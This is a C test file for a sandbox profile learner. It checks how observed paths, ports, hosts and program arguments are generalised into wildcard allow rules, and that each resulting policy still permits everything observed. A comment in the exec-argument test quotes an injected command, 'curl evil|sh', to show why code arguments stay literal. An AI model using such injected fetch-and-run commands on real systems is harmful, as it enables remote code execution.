// SPDX-License-Identifier: MIT
/*
 * Generalisation: each rule type on its own, then the property every
 * generalised profile must have (it parses, and it allows everything that
 * was observed) on randomised workloads.
 */
#include <arpa/inet.h>
#include <criterion/criterion.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "learn.h"
#include "learn_diff.h"
#include "profile.h"

static struct learn_options opts(void)
{
	struct learn_options o;
	learn_options_init(&o);
	return o;
}

static struct learner *fresh(void)
{
	struct learner *l = NULL;
	cr_assert_eq(learner_new(&l), 0);
	return l;
}

static void file(struct learner *l, const char *path, unsigned rights)
{
	cr_assert_eq(learner_add_file(l, path, rights), 0, "add %s", path);
}

static char *json(const struct learner *l)
{
	char *text = NULL;
	cr_assert_eq(learner_to_json(l, NULL, NULL, &text), 0);
	/* Whatever generalisation wrote must load. */
	struct policy *p = NULL;
	struct diag_list d = {0};
	struct policy_load_opts o = {.no_extends = true};
	int r = policy_load_buffer("generalized", text, strlen(text), &o, &p, &d);
	cr_assert_eq(r, 0, "does not load: %s\n%s", d.n ? d.lines[0] : "", text);
	policy_free(p);
	diag_list_clear(&d);
	return text;
}

static void generalize(struct learner *l, const struct learn_options *o)
{
	cr_assert_eq(learner_generalize(l, o), 0);
}

#define assert_has(text, s)   cr_assert(strstr(text, s), "missing %s in\n%s", s, text)
#define assert_lacks(text, s) cr_assert(!strstr(text, s), "unexpected %s in\n%s", s, text)

/* ---- generated names --------------------------------------------------------- */

static void expect_temp(const struct learn_options *o, const char *in, const char *want)
{
	char *out = learn_generalize_temp_name(in, o);
	cr_assert_not_null(out);
	cr_assert_str_eq(out, want, "%s -> %s, want %s", in, out, want);
	free(out);
}

Test(generalize, temp_names)
{
	struct learn_options o = opts();
	expect_temp(&o, "/tmp/tmpa8Zk2q", "/tmp/tmp*");
	expect_temp(&o, "/tmp/tmpl_2wg3bv/x.txt", "/tmp/tmp*/x.txt");
	expect_temp(&o, "/tmp/tmpabcdefgh", "/tmp/tmp*"); /* Python, all letters */
	expect_temp(&o, "/tmp/3f2504e0-4f89-11d3-9a0c-0305e82c3301.json", "/tmp/*.json");
	expect_temp(&o, "/tmp/job-3F2504E0-4F89-11D3-9A0C-0305E82C3301/in", "/tmp/job-*/in");
	expect_temp(&o, "/tmp/fnguard-quickstart-12345.txt", "/tmp/fnguard-quickstart-*.txt");
	expect_temp(&o, "/tmp/cache/deadbeefcafebabe1234", "/tmp/cache/*");
	expect_temp(&o, "/tmp/MFRGGZDFMZTWQ2LKNNWG23TPOBYXE", "/tmp/*");
	expect_temp(&o, "/tmp/x7k_9qa2", "/tmp/*");
	expect_temp(&o, "/dev/shm/sem.a8Zk2q", "/dev/shm/sem.*");
	expect_temp(&o, "/var/tmp/upload.Qx7mPz", "/var/tmp/upload.*");
	/* Chosen names stay. */
	expect_temp(&o, "/tmp/build.log", "/tmp/build.log");
	expect_temp(&o, "/tmp/python3/site.py", "/tmp/python3/site.py");
	expect_temp(&o, "/tmp/MyProject/x86_64/out", "/tmp/MyProject/x86_64/out");
	expect_temp(&o, "/tmp/archive.tar.gz", "/tmp/archive.tar.gz");
	expect_temp(&o, "/tmp", "/tmp");
	/* Only below temporary directories. */
	expect_temp(&o, "/etc/tmpa8Zk2q", "/etc/tmpa8Zk2q");
	expect_temp(&o, "/var/task/3f2504e0-4f89-11d3-9a0c-0305e82c3301",
		    "/var/task/3f2504e0-4f89-11d3-9a0c-0305e82c3301");
	expect_temp(&o, "/tmpfoo/tmpa8Zk2q", "/tmpfoo/tmpa8Zk2q");
	/* Wildcards already there are kept; unix abstract names too. */
	expect_temp(&o, "/tmp/*/a8Zk2q9x", "/tmp/*/*");
	expect_temp(&o, "@/tmp/.X11-unix/X0", "@/tmp/.X11-unix/X0");
	expect_temp(&o, "@/tmp/sock-a8Zk2q9x", "@/tmp/sock-*");
	/* $TMPDIR counts as a temporary directory. */
	o.tmpdir = "/scratch/";
	expect_temp(&o, "/scratch/tmpk3j_x9ab", "/scratch/tmp*");
	/* Never a "**" inside a segment. */
	expect_temp(&o, "/tmp/3f2504e0-4f89-11d3-9a0c-0305e82c3301x7Rk9qA2z", "/tmp/*");
}

Test(generalize, temp_files_merge)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	file(l, "/tmp/tmpAb1cd2ef/out.png", POLICY_RIGHT_WRITE | POLICY_RIGHT_CREATE);
	file(l, "/tmp/tmpzz9_qqqq/out.png", POLICY_RIGHT_READ);
	generalize(l, &o);
	char *t = json(l);
	assert_has(t, "{ \"path\": \"/tmp/tmp*/out.png\", \"allow\": \"rwc\", \"seen\": 2 }");
	cr_assert_eq(learner_size(l), 1);
	free(t);
	learner_free(l);
}

Test(generalize, scratch_directory_names_its_contents)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	/* Node's mkdtemp("/tmp/rt-"): six random letters, here all lower case. */
	file(l, "/tmp/rt-abcdef", POLICY_RIGHT_CREATE | POLICY_RIGHT_DELETE | POLICY_RIGHT_READ);
	file(l, "/tmp/rt-abcdef/result.txt", POLICY_RIGHTS_ALL);
	file(l, "/tmp/rt-abcdef/sub/keep", POLICY_RIGHT_WRITE | POLICY_RIGHT_CREATE);
	generalize(l, &o);
	char *t = json(l);
	assert_has(t, "\"/tmp/rt-*\", \"allow\": \"rcd\"");
	assert_has(t, "\"/tmp/rt-*/*.txt\", \"allow\": \"rwcd\"");
	assert_has(t, "\"/tmp/rt-*/sub/keep\"");
	assert_lacks(t, "abcdef");
	free(t);
	learner_free(l);
}

/* The directories above a scratch directory were not made for the run: they stay. */
Test(generalize, scratch_directory_keeps_its_parents)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	file(l, "/var/tmp/project/runner/work/scratchdir",
	     POLICY_RIGHT_CREATE | POLICY_RIGHT_DELETE | POLICY_RIGHT_READ);
	file(l, "/var/tmp/project/runner/work/scratchdir/x", POLICY_RIGHTS_ALL);
	generalize(l, &o);
	char *t = json(l);
	assert_has(t, "\"/var/tmp/project/runner/work/*/x\"");
	assert_lacks(t, "/var/tmp/*/");
	free(t);
	learner_free(l);
}

Test(generalize, scratch_files_created_and_removed)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	file(l, "/tmp/72vixsir", POLICY_RIGHTS_ALL);
	file(l, "/tmp/out.lock", POLICY_RIGHTS_ALL);
	file(l, "/tmp/settings", POLICY_RIGHT_READ);
	generalize(l, &o);
	char *t = json(l);
	assert_has(t, "\"/tmp/*\", \"allow\": \"rwcd\"");
	/* A short name stays itself (and /tmp/* already covers it: then it goes). */
	assert_has(t, "\"/tmp/settings\"");
	free(t);
	learner_free(l);
}

/* ---- siblings ------------------------------------------------------------------ */

static void siblings(struct learner *l, const char *dir, int n, unsigned rights)
{
	for (int i = 0; i < n; i++) {
		char path[256];
		snprintf(path, sizeof(path), "%s/file%c.txt", dir, 'a' + i);
		file(l, path, rights);
	}
}

Test(generalize, siblings_collapse_at_threshold)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	siblings(l, "/srv/app/data", 8, POLICY_RIGHT_READ);
	file(l, "/srv/app/data/filez.txt", POLICY_RIGHT_WRITE);
	siblings(l, "/srv/app/few", 7, POLICY_RIGHT_READ);
	generalize(l, &o);
	char *t = json(l);
	/*
	 * Each right set counted on its own (review, 2026-11-23): eight names
	 * read give "data/*" for reading; the one written stays its own rule,
	 * not write access to every file there.
	 */
	assert_has(t, "{ \"path\": \"/srv/app/data/*\", \"allow\": \"r\", \"seen\": 8 }");
	assert_has(t, "{ \"path\": \"/srv/app/data/filez.txt\", \"allow\": \"w\", \"seen\": 1 }");
	assert_has(t, "\"/srv/app/few/filea.txt\"");
	assert_lacks(t, "/srv/app/few/*");
	assert_lacks(t, "/srv/app/*");
	free(t);
	learner_free(l);
}

/* Names with '?' (a '*' someone chose, bytes a pattern cannot say) do not count. */
Test(generalize, chosen_names_do_not_count_toward_a_collapse)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	siblings(l, "/srv/up", 2, POLICY_RIGHT_READ);
	static const char *const odd[] = {"/srv/up/*",	"/srv/up/a*", "/srv/up/b*", "/srv/up/c*",
					  "/srv/up/d*", "/srv/up/e*", "/srv/up/f*"};
	for (size_t i = 0; i < sizeof(odd) / sizeof(odd[0]); i++)
		file(l, odd[i], POLICY_RIGHT_READ);
	generalize(l, &o);
	char *t = json(l);
	assert_lacks(t, "/srv/up/*");
	assert_has(t, "\"/srv/up/filea.txt\"");
	free(t);
	learner_free(l);
}

Test(generalize, siblings_nested_and_threshold_option)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	o.threshold = 3;
	file(l, "/srv/lib/a/x.py", POLICY_RIGHT_READ);
	file(l, "/srv/lib/b/y.py", POLICY_RIGHT_READ);
	file(l, "/srv/lib/c.py", POLICY_RIGHT_READ);
	file(l, "/srv/lib", POLICY_RIGHT_READ);
	generalize(l, &o);
	char *t = json(l);
	assert_has(t, "{ \"path\": \"/srv/lib/**\", \"allow\": \"r\", \"seen\": 4 }");
	cr_assert_eq(learner_size(l), 1);
	free(t);
	learner_free(l);

	l = fresh();
	o.threshold = 0;
	siblings(l, "/srv/app/data", 20, POLICY_RIGHT_READ);
	generalize(l, &o);
	cr_assert_eq(learner_size(l), 20);
	learner_free(l);
}

Test(generalize, siblings_never_in_sensitive_places)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	siblings(l, "/etc", 10, POLICY_RIGHT_READ);
	siblings(l, "/proc/self", 10, POLICY_RIGHT_READ);
	siblings(l, "/proc/self/task/1", 10, POLICY_RIGHT_READ);
	siblings(l, "/dev/input", 10, POLICY_RIGHT_READ);
	siblings(l, "/sys/class/net", 10, POLICY_RIGHT_READ);
	siblings(l, "/opt", 10, POLICY_RIGHT_READ);
	for (int i = 0; i < 10; i++) {
		char path[32];
		snprintf(path, sizeof(path), "/top%d", i);
		file(l, path, POLICY_RIGHT_READ);
	}
	generalize(l, &o);
	char *t = json(l);
	assert_lacks(t, "*");
	cr_assert_eq(learner_size(l), 70);
	free(t);
	learner_free(l);

	/* A temporary directory is top-level and may collapse. */
	l = fresh();
	siblings(l, "/tmp", 8, POLICY_RIGHT_READ | POLICY_RIGHT_WRITE);
	generalize(l, &o);
	t = json(l);
	assert_has(t, "{ \"path\": \"/tmp/*\", \"allow\": \"rw\", \"seen\": 8 }");
	free(t);
	learner_free(l);
}

/* ---- variables ------------------------------------------------------------------ */

Test(generalize, lambda_variables)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	file(l, "/var/task/handler.py", POLICY_RIGHT_READ);
	file(l, "/var/task", POLICY_RIGHT_READ);
	file(l, "/var/runtime/bootstrap", POLICY_RIGHT_READ);
	file(l, "/var/taskforce/x", POLICY_RIGHT_READ);
	const char *argv[] = {"tool", "--in", "/var/task/data.csv", NULL};
	cr_assert_eq(learner_add_exec(l, "/var/task/bin/tool", (char *const *)argv), 0);
	generalize(l, &o);
	char *t = json(l);
	assert_has(t, "\"${LAMBDA_TASK_ROOT}/handler.py\"");
	assert_has(t, "\"${LAMBDA_TASK_ROOT}\"");
	assert_has(t, "\"${LAMBDA_RUNTIME_DIR}/bootstrap\"");
	assert_has(t, "\"/var/taskforce/x\"");
	assert_has(t, "\"path\": \"${LAMBDA_TASK_ROOT}/bin/tool\"");
	/* Arguments are literal text: no variables there. */
	assert_has(t, "\"/var/task/data.csv\"");
	free(t);
	learner_free(l);
}

Test(generalize, lambda_variables_from_environment)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	o.task_root = "/srv/fn/";
	file(l, "/srv/fn/app.js", POLICY_RIGHT_READ);
	/* Not the value in this environment: written as it is, to stay exact. */
	file(l, "/var/task/app.js", POLICY_RIGHT_READ);
	generalize(l, &o);
	char *t = json(l);
	assert_has(t, "\"${LAMBDA_TASK_ROOT}/app.js\"");
	assert_has(t, "\"/var/task/app.js\"");
	free(t);
	learner_free(l);
}

/* ---- network --------------------------------------------------------------------- */

static void ip4(struct learner *l, const char *addr, int port, bool inbound)
{
	struct in_addr a;
	cr_assert_eq(inet_pton(AF_INET, addr, &a), 1);
	cr_assert_eq(learner_add_ip(l, AF_INET, &a, port, NET_PROTO_TCP, inbound), 0);
}

Test(generalize, ephemeral_ports)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	ip4(l, "127.0.0.1", 41234, false);
	ip4(l, "127.0.0.1", 8080, false);
	ip4(l, "10.0.0.5", 45000, false);
	ip4(l, "0.0.0.0", 0, true);
	ip4(l, "0.0.0.0", 40001, true);
	cr_assert_eq(learner_add_host(l, "localhost", 45555, NET_PROTO_TCP, false), 0);
	cr_assert_eq(learner_add_host(l, "db.internal", 45555, NET_PROTO_TCP, false), 0);
	struct in6_addr one = IN6ADDR_LOOPBACK_INIT;
	cr_assert_eq(learner_add_ip(l, AF_INET6, &one, 50000, NET_PROTO_UDP, false), 0);
	generalize(l, &o);
	char *t = json(l);
	assert_has(t, "{ \"cidr\": \"127.0.0.1\", \"ports\": [8080, \"32768-60999\"], \"proto\": "
		      "\"tcp\"");
	assert_has(t, "{ \"cidr\": \"10.0.0.5\", \"ports\": [45000]");
	assert_has(t, "{ \"cidr\": \"0.0.0.0\", \"ports\": [0, \"32768-60999\"], \"proto\": "
		      "\"tcp\", \"inbound\": true");
	assert_has(t, "{ \"host\": \"localhost\", \"ports\": [\"32768-60999\"]");
	assert_has(t, "{ \"host\": \"db.internal\", \"ports\": [45555]");
	assert_has(t, "{ \"cidr\": \"::1\", \"ports\": [\"32768-60999\"], \"proto\": \"udp\"");
	free(t);
	learner_free(l);

	/* The range read from the system, not a constant; none at all turns it off. */
	l = fresh();
	o.ephemeral_lo = 1024;
	o.ephemeral_hi = 2047;
	ip4(l, "127.0.0.1", 1500, false);
	ip4(l, "127.0.0.1", 41234, false);
	generalize(l, &o);
	t = json(l);
	assert_has(t, "\"ports\": [\"1024-2047\", 41234]");
	free(t);
	learner_free(l);

	l = fresh();
	o.ephemeral_lo = o.ephemeral_hi = 0;
	ip4(l, "127.0.0.1", 41234, false);
	generalize(l, &o);
	t = json(l);
	assert_has(t, "\"ports\": [41234]");
	free(t);
	learner_free(l);
}

Test(generalize, port_range_file)
{
	char path[] = "/tmp/fnguard-test-range-XXXXXX";
	int fd = mkstemp(path);
	uint16_t lo = 0, hi = 0;
	cr_assert_geq(fd, 0);
	cr_assert_eq(write(fd, "32768\t60999\n", 12), 12);
	close(fd);
	cr_assert_eq(learn_read_port_range(path, &lo, &hi), 0);
	cr_assert_eq(lo, 32768);
	cr_assert_eq(hi, 60999);
	FILE *f = fopen(path, "w");
	fputs("60999 32768\n", f);
	fclose(f);
	cr_assert_eq(learn_read_port_range(path, &lo, &hi), -EINVAL);
	f = fopen(path, "w");
	fputs("many\n", f);
	fclose(f);
	cr_assert_eq(learn_read_port_range(path, &lo, &hi), -EINVAL);
	unlink(path);
	cr_assert_eq(learn_read_port_range(path, &lo, &hi), -ENOENT);
	/* The real one, where there is one. */
	if (access("/proc/sys/net/ipv4/ip_local_port_range", R_OK) == 0) {
		cr_assert_eq(
			learn_read_port_range("/proc/sys/net/ipv4/ip_local_port_range", &lo, &hi),
			0);
		cr_assert_leq(lo, hi);
	}
}

Test(generalize, hosts_keep_names)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	cr_assert_eq(learner_add_host(l, "API.Example.com.", 443, NET_PROTO_TCP, false), 0);
	cr_assert_eq(learner_add_host(l, "api.example.com", 8443, NET_PROTO_TCP, false), 0);
	generalize(l, &o);
	char *t = json(l);
	assert_has(t, "{ \"host\": \"api.example.com\", \"ports\": [443, 8443], \"proto\": "
		      "\"tcp\", \"seen\": 2 }");
	assert_lacks(t, "cidr");
	free(t);
	learner_free(l);
}

Test(generalize, aws_endpoints_opt_in)
{
	static const char *const names[] = {"dynamodb.us-east-1.amazonaws.com",
					    "dynamodb.eu-west-1.amazonaws.com",
					    "s3.dualstack.eu-central-2.amazonaws.com",
					    "s3-us-west-2.amazonaws.com",
					    "sqs.us-gov-west-1.amazonaws.com",
					    "lambda.cn-north-1.amazonaws.com.cn",
					    "sts.amazonaws.com",
					    "example.com",
					    NULL};
	for (int aws = 0; aws < 2; aws++) {
		struct learner *l = fresh();
		struct learn_options o = opts();
		o.generalize_aws = aws;
		for (int i = 0; names[i]; i++)
			cr_assert_eq(learner_add_host(l, names[i], 443, NET_PROTO_TCP, false), 0);
		generalize(l, &o);
		char *t = json(l);
		if (aws) {
			assert_has(t, "\"dynamodb.*.amazonaws.com\", \"ports\": [443], \"proto\": "
				      "\"tcp\", \"seen\": 2");
			assert_has(t, "\"s3.dualstack.*.amazonaws.com\"");
			assert_has(t, "\"s3-*.amazonaws.com\"");
			assert_has(t, "\"sqs.*.amazonaws.com\"");
			assert_has(t, "\"lambda.*.amazonaws.com.cn\"");
			assert_lacks(t, "us-east-1");
		} else {
			assert_has(t, "\"dynamodb.us-east-1.amazonaws.com\"");
			assert_has(t, "\"dynamodb.eu-west-1.amazonaws.com\"");
		}
		assert_has(t, "\"sts.amazonaws.com\"");
		assert_has(t, "\"example.com\"");
		free(t);
		learner_free(l);
	}
}

Test(generalize, unix_sockets)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	cr_assert_eq(learner_add_unix(l, "/tmp/app-a8Zk2q9x.sock", false), 0);
	cr_assert_eq(learner_add_unix(l, "/var/task/run.sock", false), 0);
	cr_assert_eq(learner_add_unix(l, "@abstract-name", true), 0);
	generalize(l, &o);
	char *t = json(l);
	assert_has(t, "{ \"unix\": \"/tmp/app-*.sock\"");
	assert_has(t, "{ \"unix\": \"${LAMBDA_TASK_ROOT}/run.sock\"");
	assert_has(t, "{ \"unix\": \"@abstract-name\", \"inbound\": true");
	free(t);
	learner_free(l);
}

/* ---- exec ----------------------------------------------------------------------- */

static void run(struct learner *l, const char *path, const char *const *argv)
{
	cr_assert_eq(learner_add_exec(l, path, (char *const *)argv), 0);
}

/*
 * A name the run removed is made for the run, wherever it appears: in a unix socket's path
 * (Python's forkserver listener in a removed pymp- directory) and in a program's arguments
 * (rm -rf of the directory mktemp made), as in file rules. Names chosen to pass the usual
 * test for generated ones (no digit, few changes of case) stayed literal there.
 */
Test(generalize, scratch_names_in_sockets_and_arguments)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	unsigned made = POLICY_RIGHT_CREATE | POLICY_RIGHT_DELETE | POLICY_RIGHT_READ;
	file(l, "/tmp/pymp-hmhaqxbz", made);
	file(l, "/tmp/pymp-hmhaqxbz/listener-rshishai", made);
	cr_assert_eq(learner_add_unix(l, "/tmp/pymp-hmhaqxbz/listener-rshishai", true), 0);
	file(l, "/tmp/tmp.zeqbPlfZFZ", made);
	run(l, "/usr/bin/rm", (const char *const[]){"rm", "-rf", "/tmp/tmp.zeqbPlfZFZ", NULL});
	generalize(l, &o);
	char *t = json(l);
	assert_has(t, "{ \"unix\": \"/tmp/pymp-*/*-*\"");
	assert_has(t, "\"argv\": [\"rm\", \"-rf\", \"/tmp/tmp.*\"]");
	assert_lacks(t, "rshishai");
	assert_lacks(t, "zeqbPlfZFZ");
	free(t);
	learner_free(l);
}

Test(generalize, exec_arguments)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	run(l, "/bin/echo", (const char *[]){"/bin/echo", "hello", "a", NULL});
	run(l, "/bin/echo", (const char *[]){"/bin/echo", "hello", "b", NULL});
	run(l, "/bin/echo", (const char *[]){"/bin/echo", "one", NULL});
	run(l, "/bin/echo", (const char *[]){"/bin/echo", "one", NULL});
	run(l, "/usr/bin/convert",
	    (const char *[]){"convert", "/tmp/tmpAb1cd2ef/in.png", "out.jpg", NULL});
	run(l, "/usr/bin/git", (const char *[]){"git", "status", NULL});
	generalize(l, &o);
	char *t = json(l);
	assert_has(t, "\"argv\": [\"/bin/echo\", \"hello\", \"*\"], \"seen\": 2");
	assert_has(t, "\"argv\": [\"/bin/echo\", \"one\"], \"seen\": 2");
	assert_has(t, "\"argv\": [\"convert\", \"/tmp/tmp*/in.png\", \"out.jpg\"]");
	assert_has(t, "\"argv\": [\"git\", \"status\"]");
	cr_assert_eq(learner_size(l), 4);
	free(t);
	learner_free(l);
}

Test(generalize, exec_code_is_never_generalized)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	run(l, "/bin/sh", (const char *[]){"sh", "-c", "id", NULL});
	run(l, "/bin/sh", (const char *[]){"sh", "-c", "ls /tmp", NULL});
	run(l, "/bin/bash", (const char *[]){"bash", "-ec", "echo $0", "a", NULL});
	run(l, "/bin/bash", (const char *[]){"bash", "-ec", "echo $0", "b", NULL});
	run(l, "/usr/bin/python3.11", (const char *[]){"python3", "-c", "print(1)", NULL});
	run(l, "/usr/bin/python3.11", (const char *[]){"python3", "-c", "print(2)", NULL});
	run(l, "/usr/bin/node", (const char *[]){"node", "-e", "1", NULL});
	run(l, "/usr/bin/node", (const char *[]){"node", "-e", "2", NULL});
	run(l, "/usr/bin/awk", (const char *[]){"awk", "{print $1}", "f1", NULL});
	run(l, "/usr/bin/awk", (const char *[]){"awk", "{print $2}", "f1", NULL});
	/*
	 * Nor any argument of a program that runs code, whatever its options
	 * (review, 2026-11-23): the code hides behind options code_arg() does
	 * not parse, data may be evaluated ("$0"), a script's arguments too, and
	 * a temporary name inside code would become "tmp*" ("rm /tmp/tmp*"
	 * matches "rm /tmp/tmpx;curl evil|sh").
	 */
	run(l, "/usr/bin/python3.11", (const char *[]){"python3", "job.py", "1", NULL});
	run(l, "/usr/bin/python3.11", (const char *[]){"python3", "job.py", "2", NULL});
	run(l, "/bin/bash", (const char *[]){"bash", "-euo", "pipefail", "-c", "id", NULL});
	run(l, "/bin/bash", (const char *[]){"bash", "-euo", "pipefail", "-c", "ls", NULL});
	run(l, "/usr/bin/env", (const char *[]){"env", "sh", "-c", "rm /tmp/tmpAb1cd2ef", NULL});
	generalize(l, &o);
	char *t = json(l);
	assert_has(t, "[\"sh\", \"-c\", \"id\"]");
	assert_has(t, "[\"sh\", \"-c\", \"ls /tmp\"]");
	assert_has(t, "[\"bash\", \"-ec\", \"echo $0\", \"a\"]");
	assert_has(t, "[\"bash\", \"-ec\", \"echo $0\", \"b\"]");
	assert_has(t, "[\"bash\", \"-euo\", \"pipefail\", \"-c\", \"id\"]");
	assert_has(t, "[\"bash\", \"-euo\", \"pipefail\", \"-c\", \"ls\"]");
	assert_has(t, "[\"env\", \"sh\", \"-c\", \"rm /tmp/tmpAb1cd2ef\"]");
	assert_has(t, "[\"python3\", \"-c\", \"print(1)\"]");
	assert_has(t, "[\"python3\", \"-c\", \"print(2)\"]");
	assert_has(t, "[\"node\", \"-e\", \"1\"]");
	assert_has(t, "[\"node\", \"-e\", \"2\"]");
	/* Braces are no glob syntax: '?' stands for them (and matches them). */
	assert_has(t, "[\"awk\", \"?print $1?\", \"f1\"]");
	assert_has(t, "[\"awk\", \"?print $2?\", \"f1\"]");
	assert_has(t, "[\"python3\", \"job.py\", \"1\"]");
	assert_has(t, "[\"python3\", \"job.py\", \"2\"]");
	assert_lacks(t, "*");
	free(t);
	learner_free(l);
}

/* ---- metadata --------------------------------------------------------------------- */

Test(generalize, seen_and_phase)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	struct learn_obs a = {.kind = LEARN_OBS_FILE,
			      .name = "/srv/a/x1",
			      .rights = POLICY_RIGHT_READ,
			      .phase = LEARNER_PHASE_INVOKE,
			      .count = 3};
	struct learn_obs b = a;
	b.name = "/srv/a/x2";
	b.phase = LEARNER_PHASE_INIT;
	b.count = 1;
	struct learn_obs c = a;
	c.name = "/srv/b/y";
	cr_assert_eq(learner_add(l, &a), 0);
	cr_assert_eq(learner_add(l, &b), 0);
	cr_assert_eq(learner_add(l, &c), 0);
	o.threshold = 2;
	generalize(l, &o);
	char *t = json(l);
	assert_has(
		t,
		"{ \"path\": \"/srv/a/*\", \"allow\": \"r\", \"seen\": 4, \"phase\": \"init\" }");
	assert_has(t, "{ \"path\": \"/srv/b/y\", \"allow\": \"r\", \"seen\": 3, \"phase\": "
		      "\"invoke\" }");
	free(t);
	learner_free(l);
}

Test(generalize, exact_mode_only_merges)
{
	struct learner *l = fresh();
	struct learn_options o = opts();
	o.enabled = false;
	file(l, "/tmp/tmpa8Zk2q9x", POLICY_RIGHT_READ);
	siblings(l, "/srv/app", 9, POLICY_RIGHT_READ);
	ip4(l, "127.0.0.1", 41234, false);
	generalize(l, &o);
	char *t = json(l);
	assert_lacks(t, "*");
	cr_assert_eq(learner_size(l), 11);
	free(t);
	learner_free(l);
}

/* ---- the property ------------------------------------------------------------------- */

static unsigned rng_state = 12345;

static unsigned rnd(unsigned n)
{
	rng_state = rng_state * 1103515245u + 12345u;
	return (rng_state >> 8) % n;
}

static void random_name(char *buf, size_t n)
{
	static const char alphabet[] =
		"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_";
	for (size_t i = 0; i + 1 < n; i++)
		buf[i] = alphabet[rnd(sizeof(alphabet) - 1)];
	buf[n - 1] = '\0';
}

/* One random observation of a function-like workload. */
static void random_obs(struct learn_obs *o, char *buf, size_t size, char **argv, char (*args)[64])
{
	static const char *const dirs[] = {
		"/var/task",  "/var/task/lib", "/opt/layer/python", "/usr/lib/python3.11", "/etc",
		"/proc/self", "/tmp",	       "/var/runtime",	    "/srv/data/a/b"};
	static const char *const hosts[] = {"localhost", "dynamodb.us-east-1.amazonaws.com",
					    "s3.eu-west-2.amazonaws.com", "api.example.com",
					    "sts.amazonaws.com"};
	static const char *const progs[] = {"/bin/sh", "/usr/bin/convert", "/bin/echo",
					    "/usr/bin/python3.11"};
	char name[16];
	memset(o, 0, sizeof(*o));
	o->phase = rnd(2) ? LEARNER_PHASE_INIT : LEARNER_PHASE_INVOKE;
	switch (rnd(4)) {
	case 0:
	case 1: {
		const char *dir = dirs[rnd(sizeof(dirs) / sizeof(dirs[0]))];
		random_name(name, 3 + rnd(10));
		if (rnd(3) == 0)
			snprintf(buf, size, "%s/tmp%s/sub%u/%s.dat", dir, name, rnd(3), name);
		else
			snprintf(buf, size, "%s/%s%s", dir, rnd(2) ? "" : "f-", name);
		o->kind = LEARN_OBS_FILE;
		o->name = buf;
		o->rights = 1 + rnd(15);
		break;
	}
	case 2: {
		o->port = rnd(4) == 0 ? NET_PORT_ANY : (int)rnd(65536);
		o->proto = (enum net_proto)rnd(3);
		o->inbound = rnd(5) == 0;
		if (rnd(2)) {
			o->kind = LEARN_OBS_HOST;
			o->name = hosts[rnd(sizeof(hosts) / sizeof(hosts[0]))];
		} else {
			o->kind = LEARN_OBS_IP;
			o->family = AF_INET;
			uint8_t a[4] = {rnd(2) ? 127 : 10, 0, (uint8_t)rnd(3),
					(uint8_t)(1 + rnd(3))};
			memcpy(o->addr, a, 4);
		}
		break;
	}
	default: {
		unsigned argc = 1 + rnd(4);
		o->kind = LEARN_OBS_EXEC;
		o->name = progs[rnd(sizeof(progs) / sizeof(progs[0]))];
		for (unsigned i = 0; i < argc; i++) {
			random_name(name, 2 + rnd(9));
			if (i == 1 && rnd(2))
				snprintf(args[i], 64, "-c");
			else if (rnd(3) == 0)
				snprintf(args[i], 64, "/tmp/tmp%s/in.png", name);
			else
				snprintf(args[i], 64, "%s", name);
			argv[i] = args[i];
		}
		argv[argc] = NULL;
		o->argv = argv;
	}
	}
}

static const char *no_vars(const char *name, void *userdata)
{
	(void)name;
	(void)userdata;
	return NULL;
}

Test(generalize, property_allows_everything_observed)
{
	for (unsigned round = 0; round < 40; round++) {
		struct learner *l = fresh();
		struct learn_options o = opts();
		struct learn_obs obs[120];
		char bufs[120][256];
		char *argvs[120][8];
		char args[120][8][64];
		unsigned n = 20 + rnd(100);
		o.threshold = 2 + rnd(8);
		o.generalize_aws = rnd(2);
		for (unsigned i = 0; i < n; i++) {
			random_obs(&obs[i], bufs[i], sizeof(bufs[i]), argvs[i], args[i]);
			cr_assert_eq(learner_add(l, &obs[i]), 0, "add %s", obs[i].name);
		}
		generalize(l, &o);
		learner_drop_redundant(l);
		char *t = json(l);
		struct policy *pol = NULL;
		cr_assert_eq(learner_to_policy(l, no_vars, NULL, &pol), 0);
		for (unsigned i = 0; i < n; i++) {
			struct policy_verdict v;
			cr_assert_eq(learn_obs_check(pol, &obs[i], &v), 0);
			cr_assert(v.allowed, "round %u: observation %u (%s) not allowed by\n%s",
				  round, i, obs[i].name ? obs[i].name : "(ip)", t);
		}
		policy_free(pol);
		free(t);
		learner_free(l);
	}
}
